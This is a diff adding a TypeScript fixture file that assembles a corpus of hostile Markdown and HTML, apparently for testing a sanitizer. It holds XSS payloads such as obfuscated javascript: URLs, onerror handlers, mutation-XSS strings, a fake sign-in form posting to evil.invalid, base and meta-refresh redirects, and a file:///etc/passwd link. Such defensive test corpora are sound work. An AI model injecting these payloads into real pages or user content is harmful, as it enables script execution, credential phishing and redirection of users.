@@ -1,0 +1,91 @@
+const addresses = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "java\tscript:alert(1)",
+  "java\nscript:alert(1)",
+  "\u0001javascript:alert(1)",
+  "javascript&colon;alert(1)",
+  "&#106;avascript:alert(1)",
+  "&#x6A&#x61vascript:alert(1)",
+  "java&Tab;script:alert(1)",
+  "javascript%3Aalert(1)",
+  "vbscript:msgbox(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "data:image/svg+xml;base64,PHN2Zz4=",
+  "file:///etc/passwd",
+  "blob:https://evil.invalid/1",
+  "//evil.invalid",
+  "/\\evil.invalid",
+  "\\\\evil.invalid",
+  "/\t/evil.invalid",
+  "/&#x202E;/evil.invalid",
+  "https:evil.invalid",
+  "https:///evil.invalid",
+  "feed:javascript:alert(1)",
+  "x-javascript:alert(1)",
+];
+
+const inMarkdown = [
+  (address: string) => `[a](${address})`,
+  (address: string) => `[a](<${address}> "title")`,
+  (address: string) => `![a](${address})`,
+  (address: string) => `<${address}>`,
+  (address: string) => `[a][r]\n\n[r]: ${address}`,
+  (address: string) => `[![i](x)](${address})`,
+  (address: string) => `| h |\n|---|\n| [a](${address}) |`,
+];
+
+const html = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
+  '<form action="https://evil.invalid"><input name=password><button>sign in</button></form>',
+  '<div style="position:fixed;inset:0" id="app" class="modal">x</div>',
+  "<base href=https://evil.invalid>",
+  "<meta http-equiv=refresh content='0;url=https://evil.invalid'>",
+  "<link rel=stylesheet href=https://evil.invalid>",
+  "<textarea></div></main><img src=x onerror=alert(1)>",
+  "</p></div></main></body><button>fake</button>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<![CDATA[><img src=x onerror=alert(1)>]]>",
+  "<pre><code></code></pre><script>alert(1)",
+  "<xmp><p></xmp><img src=x onerror=alert(1)>",
+  "<a id=forms name=body>",
+];
+
+const inText = [
+  (markup: string) => markup,
+  (markup: string) => `text ${markup} *text*`,
+  (markup: string) => `> ${markup}`,
+  (markup: string) => `- ${markup}`,
+  (markup: string) => `\`${markup}\``,
+  (markup: string) => `\`\`\`html\n${markup}\n\`\`\``,
+  (markup: string) => `| h |\n|---|\n| ${markup} |`,
+  (markup: string) => `![${markup}](x "${markup}")`,
+  (markup: string) => `[${markup}](https://a.example/ "${markup}")`,
+];
+
+const others = [
+  '```"><script>alert(1)</script>\nx\n```',
+  '[a](https://a.example/"onmouseover="alert(1))',
+  "[a](https://a.example/'onmouseover='alert(1))",
+  "[](https://a.example)",
+  "[a]: javascript:alert(1)\n[a] [A] ![a]",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(1)&#62;",
+  "a &#xE000;b&#xE001; \u{E000}c\u{E001} &#x202E;d &#0; &#xD800;",
+  "\u0000\u001B[31m\uFFFF\uD800 \uDC00",
+  '#tag"><script>alert(1)</script> #<b> #tag&lt;b&gt;',
+  "# <img src=x onerror=alert(1)>\n===",
+];
+
+export const ownHostileMarkdown: string[] = [
+  ...addresses.flatMap((address) => inMarkdown.map((form) => form(address))),
+  ...html.flatMap((markup) => inText.map((form) => form(markup))),
+  ...others,
+];
